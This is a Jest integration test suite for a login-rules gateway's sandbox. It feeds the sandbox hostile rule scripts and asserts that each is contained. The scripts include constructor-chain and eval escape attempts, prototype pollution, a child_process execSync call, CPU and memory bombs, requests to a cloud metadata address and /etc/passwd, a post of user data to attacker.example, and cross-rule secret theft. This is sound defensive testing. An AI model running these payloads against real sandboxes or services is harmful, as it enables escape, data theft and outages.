import { LoginDeniedError, LoginRules, LoginRulesInput, LoginRulesOutcome } from '../../src/rules/login-rules.port';
import { GENERIC_DENIAL } from '../../src/rules/pipeline/rule-pipeline';
import { RulesSandbox } from '../../src/rules/sandbox/rules-sandbox';
import { rulesConfigDocument, startIntegrationServer } from '../support/rules-fixtures';
import { createTestApp, TestApp } from '../utils/test-app';

// Hostile rules. Each case runs as the only enabled definition in a real login pipeline; the login
// gets the outcome a rule author would expect, the host is untouched, and afterwards the gateway
// still answers its health probe and runs an ordinary login.

const input = (): LoginRulesInput => ({
  user: { user_id: 'auth0|escape', email: 'eve@example.com', email_verified: true, identities: [], created_at: '2026-01-01T00:00:00.000Z', updated_at: '2026-01-01T00:00:00.000Z', app_metadata: {} },
  protocol: 'oauth2-password',
  client: { clientId: 'web', name: 'Web' },
  connection: { id: 'con_1', name: 'Username-Password-Authentication', strategy: 'auth0' },
  request: { ip: '127.0.0.1', userAgent: 'jest' },
  scopes: ['openid'],
});

type Outcome = { ok: LoginRulesOutcome } | { denied: LoginDeniedError };

describe('sandbox escape attempts are contained', () => {
  let t: TestApp;
  let server: Awaited<ReturnType<typeof startIntegrationServer>>;
  let pipeline: LoginRules;
  let benignId: string;

  const create = async (name: string, script: string, extra: Record<string, unknown> = {}) => {
    const res = await t.admin({ method: 'POST', url: '/rules', payload: { name, script, enabled: false, ...extra } });
    expect(res.statusCode).toBe(201);
    return res.json().id as string;
  };
  const setEnabled = (id: string, enabled: boolean) => t.admin({ method: 'PATCH', url: `/rules/${id}`, payload: { enabled } });

  /** Runs a login with only the given definitions enabled, then proves the gateway is healthy. */
  async function login(...ids: string[]): Promise<Outcome> {
    for (const id of ids) await setEnabled(id, true);
    let outcome: Outcome;
    try {
      outcome = { ok: await pipeline.run(input()) };
    } catch (error) {
      if (!(error instanceof LoginDeniedError)) throw error;
      outcome = { denied: error };
    } finally {
      for (const id of ids) await setEnabled(id, false);
    }
    expect((await t.inject({ method: 'GET', url: '/-/healthz' })).statusCode).toBe(200);
    await setEnabled(benignId, true);
    const normal = await pipeline.run(input());
    await setEnabled(benignId, false);
    expect(normal.idTokenClaims).toEqual({ 'https://example.com/ok': true });
    return outcome;
  }

  const claims = (o: Outcome) => {
    if (!('ok' in o)) throw new Error(`login was denied: ${o.denied.message}`);
    return o.ok.idTokenClaims;
  };
  const genericFailure = (o: Outcome, rule: string) => {
    expect('denied' in o).toBe(true);
    const error = (o as { denied: LoginDeniedError }).denied;
    expect(error.getStatus()).toBe(401);
    expect(error.errorCode).toBe('access_denied');
    expect(error.message).toBe(GENERIC_DENIAL);
    expect(error.rule).toBe(rule);
  };
  const lastFailure = async (id: string) => (await t.admin({ method: 'GET', url: `/rules/${id}/executions?limit=1` })).json()[0];

  beforeAll(async () => {
    server = await startIntegrationServer();
    t = await createTestApp({
      configDocument: rulesConfigDocument({
        perRuleCpuMs: 1000,
        pipelineBudgetMs: 1500,
        memoryLimitMb: 16,
        maxResultBytes: 256 * 1024,
        httpAllowList: ['127.0.0.1'],
        httpTimeoutMs: 500,
        httpMaxResponseBytes: 100_000,
        workers: 1,
      }),
    });
    pipeline = t.app.get(LoginRules);
    benignId = await create('benign', "function (user, context, callback) { context.idToken['https://example.com/ok'] = true; callback(null, user, context); }", { order: 1000 });
  });
  afterAll(async () => {
    await t?.close();
    await server?.close();
  });

  it('constructor chains lead to the sandbox, never to the host process', async () => {
    const id = await create(
      'constructor-chain',
      `function (user, context, callback) {
  var found = [];
  var attempts = [
    function () { return this.constructor.constructor('return process')(); },
    function () { return callback.constructor.constructor('return process')(); },
    function () { return user.constructor.constructor('return typeof process')(); },
    function () { return Object.getPrototypeOf(context).constructor.constructor('return globalThis.process')(); },
    function () { return (function () {}).constructor('return this')().process; },
    function () { return require.constructor('return process.mainModule')(); },
    function () { return [].map.constructor('return module.require')(); },
  ];
  attempts.forEach(function (attempt) {
    try { found.push(String(typeof attempt.call(this))); } catch (e) { found.push(e.name); }
  });
  context.idToken['https://example.com/found'] = found;
  callback(null, user, context);
}`,
    );
    const found = claims(await login(id))['https://example.com/found'] as string[];
    expect(found).toHaveLength(7);
    for (const f of found) expect(['ReferenceError', 'undefined', 'string']).toContain(f);
    expect(found[2]).toBe('string'); // `typeof process` inside the sandbox…
    expect(found).not.toContain('object'); // …and nothing ever evaluates to the host's process object
  });

  it('Function and eval tricks reach only the sandbox global', async () => {
    const id = await create(
      'eval-tricks',
      `function (user, context, callback) {
  var g = new Function('return this')();
  var e = eval('typeof process + "," + typeof globalThis.process + "," + typeof Buffer.poolSize');
  var indirect = (0, eval)('this') === g;
  var keys = Object.getOwnPropertyNames(g).filter(function (k) { return /process|fs|child|__host|host/i.test(k); });
  var dynamicImport;
  try { (0, eval)('import("fs")').then(function () { dynamicImport = 'loaded'; }, function (err) { dynamicImport = err.name; }); } catch (err) { dynamicImport = err.name; }
  setTimeout(function () {
    context.idToken['https://example.com/tricks'] = { e: e, indirect: indirect, keys: keys, dynamicImport: dynamicImport };
    callback(null, user, context);
  }, 5);
}`,
    );
    expect(claims(await login(id))['https://example.com/tricks']).toEqual({ e: 'undefined,undefined,number', indirect: true, keys: [], dynamicImport: expect.stringMatching(/Error/) });
  });

  it('prototype pollution stays inside the rule that did it', async () => {
    const polluter = await create(
      'polluter',
      `function (user, context, callback) {
  Object.prototype.isAdmin = true;
  Array.prototype.polluted = 'yes';
  user.__proto__.hacked = 1;
  JSON.parse = function () { return { user_id: 'auth0|admin' }; };
  var poisoned = JSON.stringify;
  user.app_metadata = Object.assign({}, { roles: ['user'] });
  callback(null, JSON.parse('{"__proto__": {"isAdmin": true}}') && user, context);
}`,
      { order: 1 },
    );
    const victim = await create(
      'victim',
      `function (user, context, callback) {
  context.idToken['https://example.com/victim'] = { isAdmin: ({}).isAdmin === true, polluted: [].polluted || null, hacked: ({}).hacked || null };
  callback(null, user, context);
}`,
      { order: 2 },
    );
    const outcome = claims(await login(polluter, victim));
    expect(outcome['https://example.com/victim']).toEqual({ isAdmin: false, polluted: null, hacked: null });
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).hacked).toBeUndefined();
  });

  it("require('fs') and require('child_process') are not there", async () => {
    const caught = await create(
      'require-fs-caught',
      `function (user, context, callback) {
  var messages = ['fs', 'child_process', 'node:fs', 'vm', 'worker_threads', 'module', 'process'].map(function (name) {
    try { require(name); return name + ' loaded'; } catch (e) { return e.code; }
  });
  context.idToken['https://example.com/require'] = messages;
  callback(null, user, context);
}`,
    );
    expect(claims(await login(caught))['https://example.com/require']).toEqual(Array(7).fill('MODULE_NOT_FOUND'));
    const uncaught = await create('require-child-process', "function (user, context, callback) { require('child_process').execSync('id'); callback(null, user, context); }");
    genericFailure(await login(uncaught), 'require-child-process');
    expect((await lastFailure(uncaught)).error.message).toMatch(/Cannot find module 'child_process'/);
  });

  it('an infinite loop is stopped at the CPU limit while the gateway keeps serving requests', async () => {
    const id = await create('infinite-loop', 'function (user, context, callback) { while (true) {} }');
    await setEnabled(id, true);
    const started = Date.now();
    let settled = false;
    const running = pipeline.run(input()).catch((e: unknown) => e);
    void running.then(() => (settled = true));
    // the loop runs in a worker thread: the event loop that serves requests is free meanwhile
    await new Promise((r) => setTimeout(r, 50));
    const probe = await t.inject({ method: 'GET', url: '/-/healthz' });
    expect(probe.statusCode).toBe(200);
    expect(settled).toBe(false);
    const error = (await running) as LoginDeniedError;
    await setEnabled(id, false);
    expect(error).toBeInstanceOf(LoginDeniedError);
    expect(error.message).toBe(GENERIC_DENIAL);
    expect((await lastFailure(id)).error).toEqual({ name: 'TimeoutError', message: 'CPU limit of 1000 ms exceeded' });
    genericFailure(await login(id), 'infinite-loop'); // and again, on the recycled sandbox
    expect(t.app.get(RulesSandbox).stats.recycles).toBeGreaterThanOrEqual(2);
  });

  it('a recursion bomb ends in a stack overflow error', async () => {
    const id = await create('recursion-bomb', 'function (user, context, callback) { function boom(n) { return boom(n + 1) + 1; } boom(0); callback(null, user, context); }');
    genericFailure(await login(id), 'recursion-bomb');
    expect((await lastFailure(id)).error.message).toMatch(/stack overflow/);
  });

  it('a memory bomb ends at the memory limit', async () => {
    const id = await create('memory-bomb', "function (user, context, callback) { var hoard = []; for (;;) hoard.push('x'.repeat(1024 * 1024) + hoard.length); }");
    genericFailure(await login(id), 'memory-bomb');
    expect((await lastFailure(id)).error).toEqual({ name: 'RangeError', message: 'memory limit of 16 MB exceeded' });
    const objects = await create('object-bomb', 'function (user, context, callback) { var hoard = []; for (;;) hoard.push({ n: hoard.length }); }');
    genericFailure(await login(objects), 'object-bomb');
    expect((await lastFailure(objects)).error.message).toBe('memory limit of 16 MB exceeded');
    // a rule that catches the out-of-memory error gets on, but its sandbox is not reused
    const recycles = t.app.get(RulesSandbox).stats.recycles;
    const catcher = await create('catches-oom', "function (user, context, callback) { var h = []; try { for (;;) h.push('y'.repeat(1024 * 1024) + h.length); } catch (e) { h = null; } callback(null, user, context); }");
    expect('ok' in (await login(catcher))).toBe(true);
    expect(t.app.get(RulesSandbox).stats.recycles).toBe(recycles + 1);
  });

  it('work inside native built-ins, which the interrupt handler cannot stop, is ended by the host wall clock', async () => {
    // indexOf on a sparse array of length 4e8 walks every index in C, seconds without an interrupt check.
    const id = await create('native-bomb', 'function (user, context, callback) { var a = []; a[4e8] = 1; a.indexOf(2); callback(null, user, context); }');
    const sandbox = t.app.get(RulesSandbox);
    const replacedBefore = sandbox.stats.replacements;
    await setEnabled(id, true);
    const started = Date.now();
    const error = await pipeline.run(input()).catch((e: unknown) => e);
    const elapsed = Date.now() - started;
    await setEnabled(id, false);
    genericFailure({ denied: error as LoginDeniedError }, 'native-bomb');
    // terminated at the budget plus the grace period, not when the loop would have ended
    expect(elapsed).toBeGreaterThanOrEqual(3400);
    expect(elapsed).toBeLessThan(8000);
    expect(sandbox.stats.replacements).toBe(replacedBefore + 1);
    expect('ok' in (await login())).toBe(true);
    expect((await lastFailure(id)).error).toEqual({ name: 'TimeoutError', message: 'the pipeline did not finish within its 1500 ms budget' });
  });

  it('a callback that is never called fails the login: at once when nothing is pending, at the budget otherwise', async () => {
    const idle = await create('never-calls-back', 'function (user, context, callback) { var x = 1; }');
    genericFailure(await login(idle), 'never-calls-back');
    expect((await lastFailure(idle)).error.message).toMatch(/without calling callback/);

    const waiting = await create('never-calls-back-waiting', 'function (user, context, callback) { setTimeout(function () {}, 60000); }');
    const started = Date.now();
    genericFailure(await login(waiting), 'never-calls-back-waiting');
    expect(Date.now() - started).toBeGreaterThanOrEqual(1400);
    expect((await lastFailure(waiting)).error).toEqual({ name: 'TimeoutError', message: 'the pipeline ran out of its 1500 ms budget' });
  });

  it('a second callback call is ignored and reported', async () => {
    const id = await create(
      'callback-twice',
      "function (user, context, callback) { context.idToken['https://example.com/first'] = 1; callback(null, user, context); context.idToken['https://example.com/second'] = 2; callback(new UnauthorizedError('too late')); }",
    );
    expect(claims(await login(id))).toEqual({ 'https://example.com/first': 1 });
    const dry = (await t.admin({ method: 'POST', url: `/rules/${id}/try`, payload: { user: input().user } })).json();
    expect(dry.warnings).toEqual([{ rule: 'callback-twice', level: 'warn', message: 'callback called more than once; the later call was ignored' }]);
  });

  it('huge return values are refused', async () => {
    const id = await create('huge-result', "function (user, context, callback) { user.blob = 'x'.repeat(1024 * 1024); callback(null, user, context); }");
    genericFailure(await login(id), 'huge-result');
    expect((await lastFailure(id)).error.message).toBe('the result is larger than 262144 bytes');
  });

  it('outbound requests reach allow-listed hosts only, redirects included, with timeouts and size limits', async () => {
    const id = await create(
      'outbound',
      `function (user, context, callback) {
  var request = require('request');
  var targets = ['http://example.com/', '${server.url}/redirect', '${server.url}/slow', '${server.url}/big', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/'];
  var results = [];
  targets.forEach(function (url) {
    request.get({ url: url }, function (err, res) {
      results.push(err ? err.code : res.statusCode);
      if (results.length === targets.length) {
        context.idToken['https://example.com/outbound'] = results.sort();
        callback(null, user, context);
      }
    });
  });
}`,
    );
    expect(claims(await login(id))['https://example.com/outbound']).toEqual(['EHOSTNOTALLOWED', 'EHOSTNOTALLOWED', 'EHOSTNOTALLOWED', 'EPROTOCOL', 'ERESPONSETOOLARGE', 'ETIMEDOUT']);
    expect(server.requests.some((r) => r.url.includes('steal'))).toBe(false);

    const flood = await create(
      'outbound-flood',
      `function (user, context, callback) {
  var request = require('request');
  var codes = {};
  var left = 30;
  for (var i = 0; i < 30; i++) request.get('${server.url}/slow', function (err) {
    codes[err.code] = (codes[err.code] || 0) + 1;
    if (--left === 0) { context.idToken['https://example.com/flood'] = codes; callback(null, user, context); }
  });
}`,
    );
    expect(claims(await login(flood))['https://example.com/flood']).toEqual({ ETOOMANYREQUESTS: 10, ETIMEDOUT: 20 });

    const failing = await create('outbound-denied', "function (user, context, callback) { require('request').post({ url: 'https://attacker.example/collect', json: user }, function (err) { callback(err); }); }");
    genericFailure(await login(failing), 'outbound-denied');
    expect((await lastFailure(failing)).error.message).toMatch(/outbound requests to attacker.example are not allowed/);
  });

  it("another rule's secrets cannot be read through global", async () => {
    const owner = await create('secret-owner', "function (user, context, callback) { global.stolen = configuration.OWNER_KEY; global.leak = function () { return configuration.OWNER_KEY; }; callback(null, user, context); }", { order: 10 });
    const thief = await create(
      'secret-thief',
      "function (user, context, callback) { context.idToken['https://example.com/stolen'] = [String(global.stolen), typeof global.leak, String(configuration.OWNER_KEY), String(globalThis.stolen)]; callback(null, user, context); }",
      { order: 11 },
    );
    await t.admin({ method: 'PUT', url: '/rules/secrets/OWNER_KEY', payload: { value: 'owner-only-value', ruleIds: [owner] } });
    expect(claims(await login(owner, thief))['https://example.com/stolen']).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
  });
});
